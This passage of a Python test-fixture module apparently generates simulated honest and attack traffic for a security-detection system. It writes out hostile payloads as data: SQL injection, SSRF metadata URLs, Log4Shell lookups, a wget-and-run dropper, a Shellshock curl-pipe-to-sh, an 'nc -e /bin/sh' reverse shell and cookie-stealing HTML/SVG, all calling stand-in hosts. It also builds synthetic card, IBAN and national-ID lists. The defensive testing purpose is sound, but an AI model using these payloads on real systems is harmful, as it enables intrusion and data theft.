                "data.tar.gz",
                F.tar_gz_of([("usr/bin/acme", elf), ("usr/share/doc/acme/README", b"Acme tool")]),
            ),
        ]
    )
    initrd = zstd.compress(F.cpio_of([("init", b"#!/bin/sh\nexec /sbin/init\n"), ("bin/busybox", elf)]))
    logs = zstd.compress(
        b"".join(f"2026-12-01T10:{i % 60:02d}:00Z build {i} ok\n".encode() for i in range(3000))
    )
    return uploads(("dist/acme_3.2_amd64.deb", deb), ("dist/initrd.img", initrd), ("logs/build.log.zst", logs))  # fmt: skip


def h_spanish_customer_list(ctx: Ctx) -> Traffic:
    """A Spanish shop's customer list: 400 mobile numbers written 6xx xxx xxx (a tenth of them pass the
    Luhn check a Canadian SIN carries) beside notes that say "sin" ("without"), and a delivery list whose
    references are written 0000 0000 0000."""
    notes = ["sin descuento", "sin número de pedido", "cliente habitual", "sin nombre"]
    rows = [f"{F.person(ctx.rng)},6{ctx.rng.randrange(10, 99)} {ctx.rng.randrange(100, 999)} "
            f"{ctx.rng.randrange(100, 999)},{notes[i % 4]}" for i in range(400)]  # fmt: skip
    refs = [f"{ctx.rng.randrange(2000, 9999)} {ctx.rng.randrange(1000, 9999)} {ctx.rng.randrange(1000, 9999)}"
            for _ in range(300)]  # fmt: skip
    return uploads(
        ("tienda/clientes.csv", ("nombre,movil,notas\n" + "\n".join(rows)).encode()),
        ("tienda/envios.csv", ("referencia,estado\n" + "\n".join(f"{r},entregado" for r in refs)).encode()),
    )


def h_office(ctx: Ctx) -> Traffic:
    return uploads(
        ("docs/plan.docx", F.office("docx", "Project plan and milestones for the office move.")),
        ("docs/budget.xlsx", F.office("xlsx", "Budget 2027")),
        ("docs/kickoff.pptx", F.office("pptx", "Kick-off")),
        ("docs/contract.pdf", F.pdf("Master services agreement, signed copy")),
    )


def h_team_rota(ctx: Ctx) -> Traffic:
    """A shop's staff rota: 25 people's mobile numbers (Excel's phone format), hours and extensions."""
    rows: list[list[F.Cell]] = [[("Name", None), ("Mobile", None), ("Ext", None), ("Hours", None)]]
    for i in range(25):
        mobile = ctx.rng.randrange(201, 990) * 10**7 + 5_550_000 + i
        rows.append([(F.person(ctx.rng), None), (mobile, PHONE_FORMAT), (100 + i, "000"), (37.5, "0.0")])
    return uploads(
        ("shop/rota-december.xlsx", F.xlsx([rows])),
        ("shop/rota-november.xls", F.xls([rows])),
        ("shop/rota-october.xlsb", F.xlsb([rows])),
    )


def pem_key(rng: random.Random, label: str = "RSA PRIVATE KEY", size: int = 1190) -> bytes:
    """A PEM private key's shape: its header, 64-character lines of base64, its footer."""
    body = base64.b64encode(rng.randbytes(size))
    lines = [body[i : i + 64] for i in range(0, len(body), 64)]
    return b"-----BEGIN %s-----\n%s\n-----END %s-----\n" % (label.encode(), b"\n".join(lines), label.encode())


def h_projects_with_own_keys(ctx: Ctx) -> Traffic:
    """A developer's backups: a service's repository whose tests bring their own TLS key and certificate,
    its vendored node_modules whose packages' test fixtures carry theirs (as many npm packages do), and a
    home directory with its ~/.ssh key. Every key is its owner's; none is a cloud access key."""
    repo = F.tar_gz_of(
        [(f"api/src/mod{i}.py", f"def route_{i}(req):\n    return {i}\n".encode()) for i in range(40)]
        + [
            ("api/tests/fixtures/server.key", pem_key(ctx.rng)),
            ("api/tests/fixtures/server.crt", pem_key(ctx.rng, "CERTIFICATE", 800)),
            (
                "api/README",
                b"# api\n\nRun `make test`: the suite serves TLS with tests/fixtures/server.key.\n",
            ),
        ]
    )
    vendored = F.zip_of(
        [(f"node_modules/pkg-{i}/test/fixtures/key.pem", pem_key(ctx.rng, "PRIVATE KEY")) for i in range(5)]
        + [(f"node_modules/pkg-{i}/index.js", b"module.exports = {};\n") for i in range(5)]
    )
    home = F.tar_gz_of(
        [
            ("home/dev/.ssh/id_ed25519", pem_key(ctx.rng, "OPENSSH PRIVATE KEY", 300)),
            (
                "home/dev/.ssh/known_hosts",
                b"git.example.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0Sd\n",
            ),
            ("home/dev/.bashrc", b"export EDITOR=vim\n"),
        ]
    )
    return uploads(
        ("backups/api-repo.tar.gz", repo),
        ("backups/web-vendor.zip", vendored),
        ("backups/home-dev.tar.gz", home),
    )


def h_media(ctx: Ctx) -> Traffic:
    return uploads(
        *[(f"photos/team-{i}.jpg", F.jpeg(ctx.rng, 300_000 + i * 10_000)) for i in range(4)],
        ("audio/podcast-ep12.mp3", F.mp3(ctx.rng, 1_000_000)),
        ("video/welcome.mp4", F.mp4(ctx.rng, 2_000_000)),
    )


def h_backup_tar(ctx: Ctx) -> Traffic:
    members = [
        (f"site/src/mod{i}.py", f"def handler_{i}(event):\n    return {{'ok': {i}}}\n".encode())
        for i in range(150)
    ]
    members += [
        (f"site/config/{n}.json", b'{"region": "eu-west-1", "replicas": 3}') for n in ("prod", "staging")
    ]
    return uploads(("backups/site-2026-11-30.tar.gz", F.tar_gz_of(members)))


# ------------------------------------------------------------------------------------------ honest: usage


def cpu_series(
    ctx: Ctx, values: list[float], name: str = "CPUSeconds", unit: str = "Seconds"
) -> list[Metric]:
    """One point per 5-minute period, the last one in the period ending at ``ctx.end``."""
    k = len(values)
    return [
        Metric(name, ctx.end - PERIOD * (k - i) + timedelta(seconds=30), v, unit)
        for i, v in enumerate(values)
    ]


def on_behalf(
    ctx: Ctx, names: list[str], *, minutes: int, rate: float, agent: str, ip: str | None = None
) -> tuple[list[Line], str]:
    """A server calling the API for other accounts, naming one of ``names`` (``ctx.connected``) in
    X-Account-Id on each request, at ``rate`` req/s for the last ``minutes``."""
    ip, me, lines = ip or ctx.ip(), ctx.account_id, []
    for at in gaps(ctx.rng, ctx.end_ms - minutes * MIN, int(rate * minutes * 60), 1000 / rate, cv=0.4):
        other = ctx.connected[ctx.rng.choice(names)]
        path = f"/orders/{ctx.rng.randrange(10_000, 99_999)}"
        length = ctx.rng.randrange(400, 3000)
        lines.append(Line(at, ip, path, "/orders/{id}", me, 200, agent, length=length, claimed=other))
    return [ln for ln in lines if ln.at_ms < ctx.end_ms], ip


SHOPS = tuple(f"shop{i:02d}" for i in range(12))


def h_platform_connected(ctx: Ctx) -> Traffic:
    """A marketplace platform syncing the orders of the 12 shops it manages, each request naming the
    shop in X-Account-Id; the operator declared the shops (``acts_for``)."""
    lines, ip = on_behalf(ctx, list(SHOPS), minutes=30, rate=2, agent="MarketPlatform-Sync/5.2 (+go 1.23)")
    return traffic(lines, ip)


def h_cpu_spike(ctx: Ctx) -> Traffic:
    """A standard account (50 CPU-s per 5 min) with one nightly batch spike of 400 CPU-s."""
    return Traffic(metrics=cpu_series(ctx, [12, 20, 400, 18, 15, 11]))


def h_business_steady(ctx: Ctx) -> Traffic:
    t = Traffic(metrics=cpu_series(ctx, [250.0 + ctx.rng.randrange(40) for _ in range(12)]))
    t.metrics += cpu_series(ctx, [6000.0] * 12, "MemoryPeakMB", "Megabytes")
    return t


# ------------------------------------------------------------------------------------------ attacks: logs


PROBE_PATHS = ("/.env", "/.git/config", "/wp-login.php", "/backup.sql", "/admin/", "/phpmyadmin/", "/server-status",
               "/config.json", "/.aws/credentials", "/.DS_Store", "/actuator/env", "/debug/pprof/")  # fmt: skip


def h_sql_console(ctx: Ctx) -> Traffic:
    """A data team's SQL console on its own warehouse API: two analysts in browsers run the queries they
    type (``GET /v1/query?sql=...``) for two hours, now and then a UNION of two tables, and the API answers
    400 to a typo or a query it declines."""
    me, lines, start = ctx.account_id, [], ctx.end_ms - 120 * MIN
    queries = [
        "SELECT region, SUM(amount) FROM orders WHERE month = '2026-10' GROUP BY region",
        "SELECT id, name FROM customers WHERE name LIKE 'A%' ORDER BY name LIMIT 50",
        "SELECT month, total FROM revenue_2025 UNION ALL SELECT month, total FROM revenue_2026",
        "SELECT * FROM orders WHERE status = 'open' AND created_at > '2026-11-01'",
        "SELECT sku, COUNT(*) FROM order_lines GROUP BY sku HAVING COUNT(*) > 10",
        "SELECT id FROM users UNION SELECT user_id FROM sessions",
        "SELEC id FROM users WHERE email LIKE '%@example.com'",
        "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
        "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id --latest",
    ]
    for person in range(2):
        ip = ctx.ip()
        for at in gaps(ctx.rng, start + person * 7 * MIN, 70, 90 * SEC):
            q = ctx.rng.choice(queries)
            bad = q.startswith("SELEC ") or ctx.rng.random() < 0.15
            lines.append(Line(at, ip, "/v1/query?sql=" + quote(q), "/v1/query", me, 400 if bad else 200))
    return hourly(sorted(lines, key=lambda ln: ln.at_ms), start, 2)


def h_log_search(ctx: Ctx) -> Traffic:
    """A security team's log search on its own API: three analysts in browsers hunt the probes their web
    servers saw, typing them as queries (``q=<script>alert(1)</script>``, ``../../etc/passwd``,
    ``' OR 1=1--``), for two hours; the API answers 400 to a query its syntax declines."""
    me, lines, start = ctx.account_id, [], ctx.end_ms - 120 * MIN
    terms = ["<script>alert(1)</script>", "../../etc/passwd", "' OR 1=1--", "UNION SELECT NULL,NULL",
             "status:500 AND path:/login", "onerror=alert(", "sqlmap", 'user_agent:"Nikto"',
             "ip:203.0.113.7", "cmd.exe", "url:*169.254.169.254*"]  # fmt: skip
    for person in range(3):
        ip = ctx.ip()
        for at in gaps(ctx.rng, start + person * 5 * MIN, 50, 2 * MIN):
            q, bad = ctx.rng.choice(terms), ctx.rng.random() < 0.15
            lines.append(
                Line(at, ip, f"/v1/search?q={quote(q)}&range=24h", "/v1/search", me, 400 if bad else 200)
            )
    return hourly(sorted(lines, key=lambda ln: ln.at_ms), start, 2)


def scan(ctx: Ctx, agent: str, paths: list[str], *, seconds: float = 1.0, status: int = 404) -> Traffic:
    ip, me = ctx.ip(), ctx.account_id
    start = ctx.end_ms - int(len(paths) * seconds * 1000) - MIN
    lines = [
        Line(at, ip, p, "-", me, status, agent, length=150)
        for at, p in zip(gaps(ctx.rng, start, len(paths), seconds * 1000, cv=0.3), paths, strict=True)
    ]
    return traffic(lines, ip)


def a_sqlmap(ctx: Ctx) -> Traffic:
    inj = ["1' OR '1'='1", "1 AND SLEEP(5)", "1) UNION ALL SELECT NULL,NULL--", "1';DROP TABLE users--"]
    paths = [f"/items?id={quote(inj[i % 4])}" for i in range(60)] + list(PROBE_PATHS)
    return scan(ctx, "sqlmap/1.8.4#stable (https://sqlmap.org)", paths)


def a_nikto(ctx: Ctx) -> Traffic:
    paths = [p for p in PROBE_PATHS for _ in range(10)] + [f"/cgi-bin/test{i}.cgi" for i in range(30)]
    return scan(ctx, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", paths, seconds=0.5)


def a_claimed_accounts(ctx: Ctx) -> Traffic:
    """A key reading orders while naming four other accounts in X-Account-Id, none of them its own."""
    names = ["mark-a", "mark-b", "mark-c", "mark-d"]
    lines, ip = on_behalf(ctx, names, minutes=10, rate=0.2, agent="curl/8.5.0")
    return traffic(lines, ip)


def a_agency_beyond_clients(ctx: Ctx) -> Traffic:
    """An agency declared for three clients that also names two accounts it does not act for."""
    lines, ip = on_behalf(
        ctx, ["client-a", "client-b", "client-c"], minutes=20, rate=1, agent="AgencyDesk/3.0"
    )
    beyond, _ = on_behalf(ctx, ["rival-a", "rival-b"], minutes=20, rate=0.05, agent="AgencyDesk/3.0", ip=ip)
    return traffic(sorted(lines + beyond, key=lambda ln: ln.at_ms), ip)


def a_privilege_probing(ctx: Ctx) -> Traffic:
    """A key refused (403) on one internal route after another: users, billing, config, audit, ..."""
    ip, me = ctx.ip(), ctx.account_id
    routes = ["/admin/users", "/internal/config", "/billing/accounts", "/audit/export", "/admin/keys",
              "/internal/metrics", "/support/impersonate", "/admin/plans"]  # fmt: skip
    lines = [
        Line(at, ip, f"{route}/{i}", route + "/{id}", me, 403, "python-requests/2.31.0", length=90)
        for i, at in enumerate(gaps(ctx.rng, ctx.end_ms - 4 * MIN, 120, 2 * SEC, cv=0.3))
        for route in [routes[i % len(routes)]]
    ]
    return traffic(lines, ip)


def a_sqli_answered(ctx: Ctx) -> Traffic:
    """Injection payloads in a live route's query string, answered 200 (the route took them)."""
    qs = ["1' OR '1'='1", "1 UNION ALL SELECT username,password FROM users--", "1;select pg_sleep(10)"]
    ip, me = ctx.ip(), ctx.account_id
    lines = [
        Line(ctx.end_ms - (len(qs) - i) * MIN, ip, f"/items?id={quote(q)}", "/items", me, 200, BROWSER_UAS[0])
        for i, q in enumerate(qs)
    ]
    return traffic(lines, ip)


def a_sqli_declined(ctx: Ctx) -> Traffic:
    """sqlmap's payloads against a live route's query string, which its validation answers 400: 60 in
    two minutes, with a library's agent."""
    inj = ["1' OR '1'='1", "1 AND SLEEP(5)", "1) UNION ALL SELECT NULL,NULL--", "1';DROP TABLE users--",
           "1 AND 1=2", "1'||pg_sleep(5)--"]  # fmt: skip
    ip, me = ctx.ip(), ctx.account_id
    lines = [
        Line(at, ip, f"/items?id={quote(inj[i % len(inj)])}", "/items", me, 400, "python-requests/2.31.0")
        for i, at in enumerate(gaps(ctx.rng, ctx.end_ms - 3 * MIN, 60, 2 * SEC, cv=0.3))
    ]
    return traffic(lines, ip)


def a_ssrf_metadata(ctx: Ctx) -> Traffic:
    """Server-side request forgery at the cloud's metadata service: a key guesses routes that fetch a URL
    (``/proxy?url=``, ``/fetch?url=``: unrouted, 404), then tries the metadata address in eight spellings
    through the customer's webhook-test route, which answers 400 to those it blocks and 200 to the rest."""
    ip, me, agent = ctx.ip(), ctx.account_id, "python-requests/2.31.0"
    target = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    guesses = [f"/{r}?url={quote(target)}" for r in ("proxy", "fetch", "api/proxy", "image-proxy")]
    spellings = ["http://169.254.169.254/latest/meta-data/", "http://2852039166/latest/meta-data/",
                 "http://0xa9fea9fe/", "http://[::ffff:169.254.169.254]/", "http://[fd00:ec2::254]/latest/api/token",
                 "http://metadata.google.internal/computeMetadata/v1/", "http://100.100.100.200/latest/meta-data/",
                 target]  # fmt: skip
    start = ctx.end_ms - 10 * MIN
    lines = [Line(start + i * 20 * SEC, ip, p, "-", me, 404, agent, length=90) for i, p in enumerate(guesses)]
    lines += [
        Line(
            start + 2 * MIN + i * 30 * SEC,
            ip,
            f"/v1/webhooks/test?url={quote(u)}",
            "/v1/webhooks/test",
            me,
            400 if i % 2 else 200,
            agent,
            length=120,
        )
        for i, u in enumerate(spellings)
    ]
    return traffic(lines, ip)


def a_botnet_exploit_sweep(ctx: Ctx) -> Traffic:
    """A key that found its way onto a botnet's scanner: the exploits honeypots see most, each once and
    unrouted (404): a router's diagnostics form, a shell dropper into /tmp, FortiOS's and OFBiz's
    authentication bypasses."""
    ip, me, agent = ctx.ip(), ctx.account_id, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"
    sweep = [
        "/GponForm/diag_Form?images/",
        "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.23/bins/x86;chmod+777+x86;./x86",
        "/api/v2/cmdb/system/admin/admin",
        "/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y",
    ]
    start = ctx.end_ms - 20 * MIN
    return traffic(
        [Line(start + i * 3 * MIN, ip, p, "-", me, 404, agent, length=90) for i, p in enumerate(sweep)], ip
    )


def a_key_stuffing(ctx: Ctx) -> Traffic:
    ip = ctx.ip()
    lines = [Line(at, ip, "/me", "/me", ctx.key_hash(f"k{i}"), 403, "python-requests/2.31.0", length=60)
             for i, at in enumerate(gaps(ctx.rng, ctx.end_ms - 4 * MIN, 60, 3 * SEC))]  # fmt: skip
    return traffic(lines, ip)


def a_key_stuffing_v6(ctx: Ctx) -> Traffic:
    prefix = f"2a02:{0x1000 + ctx.index:x}:77:1"
    lines = [Line(at, ctx.ip6(prefix), "/me", "/me", ctx.key_hash(f"k{i}"), 403, "python-requests/2.31.0", length=60)
             for i, at in enumerate(gaps(ctx.rng, ctx.end_ms - 4 * MIN, 60, 3 * SEC))]  # fmt: skip
    return traffic(lines, ctx.ip6(prefix))


def a_brute_force(ctx: Ctx) -> Traffic:
    ip, me = ctx.ip(), ctx.account_id
    lines = [Line(at, ip, "/login", "/login", me, 401, "python-requests/2.31.0", method="POST", length=80)
             for at in gaps(ctx.rng, ctx.end_ms - 4 * MIN, 36, 6 * SEC)]  # fmt: skip
    return traffic(lines, ip)


def a_flood(ctx: Ctx) -> Traffic:
    """7 req/s for 10 minutes on the free plan (2 req/s): 3.5x, machine-regular."""
    lines, ip = integration(
        ctx, rate=7, minutes=10, agent="python-requests/2.31.0", resource="/items/{id}", ids="random"
    )
    return traffic(lines, ip)


def a_enumeration(ctx: Ctx) -> Traffic:
    ip, me = ctx.ip(), ctx.account_id
    ats = gaps(ctx.rng, ctx.end_ms - 4 * MIN, 600, 400, cv=0.2)
    lines = [
        Line(
            at,
            ip,
            f"/users/{i + 1}",
            "/users/{id}",
            me,
            404 if i % 20 == 0 else 200,
            "python-requests/2.31.0",
        )
        for i, at in enumerate(ats)
    ]
    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], ip)


def a_crawl(ctx: Ctx) -> Traffic:
    ip, me = ctx.ip(), ctx.account_id
    ats = gaps(ctx.rng, ctx.end_ms - 4 * MIN, 900, 250, cv=0.2)
    lines = [
        Line(
            at,
            ip,
            f"/products/p-{ctx.rng.getrandbits(40):x}",
            "/products/{id}",
            me,
            200,
            "Scrapy/2.11 (+https://scrapy.org)",
        )
        for at in ats
    ]
    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], ip)


def a_key_resale(ctx: Ctx) -> Traffic:
    me, lines = ctx.account_id, []
    agents = [f"Mozilla/5.0 (Linux; Android {10 + i % 5}) Chrome/{118 + i}.0" for i in range(12)]
    for buyer in range(60):
        ip = ctx.ip(net=buyer * 4)
        for at in gaps(ctx.rng, ctx.end_ms - 60 * MIN + ctx.rng.randrange(50 * MIN), 8, 20 * SEC):
            lines.append(
                Line(
                    at, ip, f"/items/{ctx.rng.randrange(1, 500)}", "/items/{id}", me, 200, agents[buyer % 12]
                )
            )
    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], lines[0].ip)


def a_forged_xff(ctx: Ctx) -> Traffic:
    ip, me = ctx.ip(), ctx.account_id
    chains = ["127.0.0.1", "127.0.0.1, 8.8.8.8", "garbage", "1.1.1.1"]
    lines = [Line(at, ip, f"/items/{i}", "/items/{id}", me, 200, "curl/8.5.0", forwarded=f"{chains[i % 4]}, {ip}" if i % 4 < 3 else chains[3])
             for i, at in enumerate(gaps(ctx.rng, ctx.end_ms - 5 * MIN, 40, 5 * SEC))]  # fmt: skip
    return traffic(lines, ip)


def a_fake_crawler(ctx: Ctx) -> Traffic:
    ip, me = ctx.ip(), ctx.account_id
    ua = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    lines = [
        Line(at, ip, f"/items/{ctx.rng.randrange(1, 5000)}", "/items/{id}", me, 200, ua)
        for at in gaps(ctx.rng, ctx.end_ms - 5 * MIN, 100, 2 * SEC)
    ]
    return traffic(lines, ip)


def few(ctx: Ctx, items: list[tuple[str, str]]) -> Traffic:
    """A handful of single requests (path, agent), a minute apart, from one source."""
    ip, me = ctx.ip(), ctx.account_id
    lines = [
        Line(ctx.end_ms - (len(items) - i) * MIN, ip, p, "-", me, 404, a, length=120)
        for i, (p, a) in enumerate(items)
    ]
    return traffic(lines, ip)


def a_jndi(ctx: Ctx) -> Traffic:
    return few(ctx, [("/search?q=" + quote("${jndi:ldap://203.0.113.5:1389/Exploit}"), BROWSER_UAS[0])])


def a_webshells(ctx: Ctx) -> Traffic:
    return few(
        ctx,
        [
            ("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", BROWSER_UAS[0]),
            ("/c99.php", BROWSER_UAS[0]),
            ("/uploads/shell.php?cmd=id", BROWSER_UAS[0]),
        ],
    )


def a_ua_payload(ctx: Ctx) -> Traffic:
    return few(
        ctx,
        [
            ("/", "() { :; }; /bin/bash -c 'curl -s 203.0.113.5/x|sh'"),
            ("/items/1", "${jndi:ldap://203.0.113.5/a}"),
            ("/me", "<script>alert(1)</script>"),
        ],
    )


def a_sqli_spellings(ctx: Ctx) -> Traffic:
    qs = [
        "1 union/**/select username,password from users",
        "1 AND 1=1",
        "1 AND 1=2",
        "1;select pg_sleep(10)",
        "1'||pg_sleep(5)--",
        "1 UnIoN/**/SeLeCt 1,2",
    ]
    return few(ctx, [(f"/items?id={quote(q)}", "python-requests/2.31.0") for q in qs])


def a_command_and_template_injection(ctx: Ctx) -> Traffic:
    """What a scanner's injection pass sends besides SQL: shell commands after an address or in a
    substitution, the template engines' arithmetic probes, PHP's info call, a prototype-pollution key, a
    NoSQL operator on a password; each once, a minute apart (unrouted, 404)."""
    qs = ["/v1/ping?host=" + quote("127.0.0.1;id"), "/v1/ping?host=" + quote("$(whoami)"),
          "/v1/ping?host=" + quote("x|nc -e /bin/sh 203.0.113.5 4444"), "/v1/render?name=" + quote("{{7*7}}"),
          "/v1/render?name=" + quote("${7*7}"), "/v1/render?name=" + quote("<%= 7*7 %>"),
          "/v1/page?q=" + quote(";phpinfo();"), "/v1/settings?__proto__[admin]=1",
          "/v1/login?username=admin&password[$ne]=x"]  # fmt: skip
    return few(ctx, [(p, "python-requests/2.31.0") for p in qs])


def a_traversal_spellings(ctx: Ctx) -> Traffic:
    ps = [
        "/files/..%c0%af..%c0%af..%c0%afetc/passwd",
        "/static/..;/..;/WEB-INF/web.xml",
        "/img/..%252f..%252fetc%252fpasswd",
        "/a/..%5c..%5cwindows%5cwin.ini",
        "/files/%2e%2e/%2e%2e/etc/shadow",
        "/x/..;/manager/html",
    ]
    return few(ctx, [(p, "curl/8.5.0") for p in ps])


def a_slow_probing(ctx: Ctx) -> Traffic:
    """50 probes of sensitive paths over 10 hours, one every 12 minutes, with a browser's agent."""
    ip, me = ctx.ip(), ctx.account_id
    start = ctx.end_ms - 10 * 60 * MIN
    paths = [
        PROBE_PATHS[i % len(PROBE_PATHS)] + ("" if i < len(PROBE_PATHS) else f"?v={i}") for i in range(50)
    ]
    lines = [
        Line(start + i * 12 * MIN + ctx.rng.randrange(MIN), ip, p, "-", me, 404, BROWSER_UAS[0], length=150)
        for i, p in enumerate(paths)
    ]
    # delivered as they happen: one batch an hour
    deliveries = [
        [ln for ln in lines if h * 60 * MIN <= ln.at_ms - start < (h + 1) * 60 * MIN] for h in range(10)
    ]
    return Traffic(deliveries=[d for d in deliveries if d], probe_ips=[ip])


def a_browser_flood(ctx: Ctx) -> Traffic:
    """5.6 req/s (2.8x the free plan) for 10 minutes with a browser's agent and jittered timing."""
    ip, me = ctx.ip(), ctx.account_id
    lines = [
        Line(at, ip, f"/items/{ctx.rng.randrange(1, 5000)}", "/items/{id}", me, 200, BROWSER_UAS[1])
        for at in gaps(ctx.rng, ctx.end_ms - 10 * MIN, 3360, 1000 / 5.6)
    ]
    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], ip)


def a_padded_scanner(ctx: Ctx) -> Traffic:
    """A scanner's agent padded past the 16 KiB line limit (lines over it used to be skipped whole)."""
    agent = (
        "Mozilla/5.0 "
        + "A" * 20_000
        + " (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
    )
    return few(ctx, [(p, agent) for p in ("/", "/items/1", "/me", "/status")])


def a_cve_probe(ctx: Ctx) -> Traffic:
    """One request for a published CVE's probe URI (Laravel Ignition, CVE-2021-3129)."""
    return few(ctx, [("/_ignition/execute-solution", BROWSER_UAS[0])])


def a_forwarded_payload(ctx: Ctx) -> Traffic:
    """A Log4Shell lookup planted in X-Forwarded-For, one request."""
    ip, me = ctx.ip(), ctx.account_id
    line = Line(
        ctx.end_ms - MIN, ip, "/me", "/me", me, 200, BROWSER_UAS[0], forwarded="${jndi:ldap://203.0.113.5/a}"
    )
    return traffic([line], ip)


def a_cpu(ctx: Ctx) -> Traffic:
    """40 CPU-s every 5 minutes for 20 minutes on the free plan (5 per 5 minutes)."""
    return Traffic(metrics=cpu_series(ctx, [1.0, 40.0, 40.0, 40.0, 40.0]))


# ------------------------------------------------------------------------------------------ attacks: uploads

CONTAINERS: dict[str, tuple[str, Callable[[str, bytes], bytes]]] = {
    "plain": ("", lambda name, data: data),
    "zip": (".zip", lambda name, data: F.zip_of([(name, data)])),
    "zip>zip": (".zip", lambda name, data: F.zip_of([("inner.zip", F.zip_of([(name, data)]))])),
    "gzip": (".gz", lambda name, data: F.gzip_of(data, name)),
    "gzip>gzip": (".gz.gz", lambda name, data: F.gzip_of(F.gzip_of(data, name))),
    "zip>gzip": (".zip.gz", lambda name, data: F.gzip_of(F.zip_of([(name, data)]))),
    "zip>xz": (".zip.xz", lambda name, data: F.xz_of(F.zip_of([(name, data)]))),
    "7z>gzip": (".7z.gz", lambda name, data: F.gzip_of(F.sevenz_of(name, data))),
    "tar.gz": (".tar.gz", lambda name, data: F.tar_gz_of([(name, data)])),
    "jpeg+zip": (".jpg", lambda name, data: F.jpeg(random.Random(7), 20_000) + F.zip_of([(name, data)])),
    "utf-16": ("", lambda name, data: b"\xff\xfe" + data.decode("latin-1").encode("utf-16-le")),
}
PAYLOADS: dict[str, tuple[str, Callable[[random.Random], bytes]]] = {
    "eicar": ("eicar.com", lambda rng: F.EICAR),
    "cards": ("customers.csv", lambda rng: F.cards_csv(rng, 40)),
    "pe-as-jpg": ("holiday.jpg", F.pe),
    "html-js": ("page.html", lambda rng: HTML_JS),
}
HTML_JS: bytes = (
    b"<html><body><a href=\"&#106;ava&#x73;cript:fetch('//203.0.113.9/c?'+document.cookie)\">open</a>"
    b"<a href=\"java&#x09;script:eval(atob('YWxlcnQoMSk='))\">x</a></body></html>"
)
SVG_JS = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    b'<a xlink:href="jav&#x0A;ascript:location=\'//203.0.113.9/?\'+document.cookie"><text y="20">logo</text></a></svg>'
)


def contained(container: str, payload: str, rng: random.Random) -> Upload:
    ext, wrap = CONTAINERS[container]
    name, make = PAYLOADS[payload]
    data = wrap(name, make(rng))
    path = f"{container.replace('>', '-in-').replace('.', '-').replace('+', '-')}/{name}{ext}"
    return Upload(path, data, (container, payload))


def a_upload(container: str, payload: str) -> Callable[[Ctx], Traffic]:
    def build(ctx: Ctx) -> Traffic:
        return Traffic(uploads=[contained(container, payload, ctx.rng)])

    return build


def a_iban_list(ctx: Ctx) -> Traffic:
    """A list of 40 people's names and bank accounts (IBANs) in a zip of text files, ten a file."""
    rows = F.ibans_csv(ctx.rng).decode().splitlines()
    members = [
        (f"lists/part-{k}.csv", ("\n".join(rows[1 + 10 * k : 11 + 10 * k]) + "\n").encode()) for k in range(4)
    ]
    return uploads(("data/accounts.zip", F.zip_of(members)))


def a_cards_behind_magic(ctx: Ctx) -> Traffic:
    """40 card numbers in a CSV whose first line opens with an MP3 tag's magic ("ID3"), and another that
    mentions "%PDF-" first: sniffed as audio or a PDF, the text detectors would not read them."""
    cards = F.cards_csv(ctx.rng)
    return uploads(
        ("exports/tags.csv", b"ID3 tags,export\n" + cards),
        ("exports/notes.csv", b"note: %PDF-1.7 attachments follow\n" + F.cards_csv(ctx.rng)),
    )


def a_cards_in_legacy_encodings(ctx: Ctx) -> Traffic:
    """Customer lists with 40 card numbers each, as Japanese spreadsheets export CSV (Shift_JIS) and in
    Russian (cp1251): no UTF-8, most bytes above 0x7F."""
    jp = "氏名,カード番号,住所\n" + "\n".join(
        f"山田太郎,{c},東京都千代田区丸の内{i}丁目" for i, c in enumerate(F.card_numbers(ctx.rng, 40))
    )
    ru = "ФИО,номер карты,адрес\n" + "\n".join(
        f"Иванов Иван,{c},Москва, ул. Тверская, д. {i}" for i, c in enumerate(F.card_numbers(ctx.rng, 40))
    )
    return uploads(
        ("exports/kokyaku.csv", jp.encode("shift_jis")), ("exports/klienty.csv", ru.encode("cp1251"))
    )


def a_cards_in_pdf(ctx: Ctx) -> Traffic:
    """A statement PDF listing 40 people's card numbers (deflated content stream, Helvetica)."""
    rows = [
        f"{F.person(ctx.rng)}  {c}  exp {ctx.rng.randrange(1, 13):02d}/29"
        for c in F.card_numbers(ctx.rng, 40)
    ]
    return uploads(("statements/2026-11.pdf", F.text_pdf(rows)))


def a_national_id_lists(ctx: Ctx) -> Traffic:
    """Lists of 40 people each with their national identity numbers, as leaked data is shared: Brazilians'
    CPFs, Canadians' Social Insurance Numbers and Indians' Aadhaar numbers, each column named."""

    def listing(header: str, make: Callable[[random.Random], str]) -> bytes:
        return (header + "\n" + "\n".join(f"{F.person(ctx.rng)},{make(ctx.rng)}" for _ in range(40))).encode()

    return uploads(
        ("dump/clientes.csv", listing("nome,cpf", F.cpf)),
        ("dump/customers-ca.csv", listing("name,SIN", F.sin)),
        ("dump/kyc-in.csv", listing("name,aadhaar_no", F.aadhaar)),
    )


def a_cards_in_xlsb(ctx: Ctx) -> Traffic:
    """A customer list of 40 people's card numbers and expiry dates saved as an Excel binary workbook."""
    rows: list[list[F.Cell]] = [[("Name", None), ("Card", None), ("Expiry", None), ("Spent", None)]]
    for card in F.card_numbers(ctx.rng, 40):
        rows.append([(F.person(ctx.rng), None), (card, None), (f"{ctx.rng.randrange(1, 13):02d}/29", None),
                     (ctx.rng.randrange(100, 90_000) / 100, "0.00")])  # fmt: skip
    return uploads(("exports/customers.xlsb", F.xlsb([rows])))


SSN_FORMAT = r"000\-00\-0000"  # Excel's "Special: Social Security Number"
PHONE_FORMAT = "[<=9999999]###-####;(###) ###-####"  # Excel's "Special: Phone Number"


def _staff(ctx: Ctx, n: int) -> list[list[F.Cell]]:
    header: list[F.Cell] = [("Name", None), ("SSN", None), ("Start", None), ("Salary", None)]
    return [header] + [
        [
